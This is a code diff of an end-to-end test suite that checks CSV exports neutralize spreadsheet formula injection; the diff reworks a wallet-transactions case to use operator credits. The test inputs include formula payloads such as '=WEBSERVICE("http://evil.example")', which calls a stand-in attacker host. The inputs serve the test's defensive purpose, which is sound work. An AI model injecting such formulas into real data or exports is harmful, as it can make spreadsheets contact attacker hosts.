@@ -4,6 +4,7 @@ import { User, UserRole } from '../../src/modules/auth/entities/user.entity';
 import { Call } from '../../src/modules/calls/entities/call.entity';
 import { Contact } from '../../src/modules/contacts/entities/contact.entity';
 import {
+  createOperator,
   createOrganization,
   loginAs,
   request,
@@ -80,20 +81,22 @@ describe('CSV exports neutralize spreadsheet formulas (OWASP CSV injection)', ()
     expect(detail.body.name).toBe(HYPERLINK);
   });
 
-  it('wallet/transactions/export.csv: a top-up note starting with = + - @ is prefixed; amounts stay numbers', async () => {
+  it('wallet/transactions/export.csv: a credit reason starting with = + - @ is prefixed; amounts stay numbers', async () => {
+    const operator = await loginAs(api.baseUrl, await createOperator(api.dataSource));
+    const credits = `/api/platform/organizations/${users.owner.organizationId}/credits`;
     const notes = ['=1+1', '+cmd', '-cmd', '@cmd'];
     for (const [i, note] of notes.entries()) {
-      const topUp = await request(api.baseUrl, 'POST', '/api/wallet/topups', {
-        token,
+      const credit = await request(api.baseUrl, 'POST', credits, {
+        token: operator,
         headers: { 'idempotency-key': `csv-${i}-${Date.now()}` },
-        body: { amountMicros: '1000000', note },
+        body: { amountMicros: '1000000', reason: note },
       });
-      expect(topUp.status).toBe(201);
+      expect(credit.status).toBe(201);
     }
-    const adjustment = await request(api.baseUrl, 'POST', '/api/wallet/adjustments', {
-      token: await loginAs(api.baseUrl, users.owner),
+    const adjustment = await request(api.baseUrl, 'POST', credits, {
+      token: operator,
       headers: { 'idempotency-key': `csv-adj-${Date.now()}` },
-      body: { amountMicros: '-1500000', reason: '=WEBSERVICE("http://evil.example")' },
+      body: { amountMicros: '1500000', reason: '=WEBSERVICE("http://evil.example")' },
     });
     expect(adjustment.status).toBe(201);
 
@@ -102,8 +105,8 @@ describe('CSV exports neutralize spreadsheet formulas (OWASP CSV injection)', ()
     for (const note of notes) expect(reasons).toContain(`'${note}`);
     expect(reasons).toContain(`'=WEBSERVICE("http://evil.example")`);
     const debit = rows.find((row) => row.reason.startsWith(`'=WEBSERVICE`))!;
-    expect(debit.balance_change_micros).toBe('-1500000');
-    expect(debit.balance_change).toBe('-1.50'); // the decimal amount beside the micros
+    expect(debit.balance_change_micros).toBe('1500000');
+    expect(debit.balance_change).toBe('1.50'); // the decimal amount beside the micros
     expect(Number(debit.balance_after) * 1e6).toBeCloseTo(Number(debit.balance_after_micros), 0);
   });
 
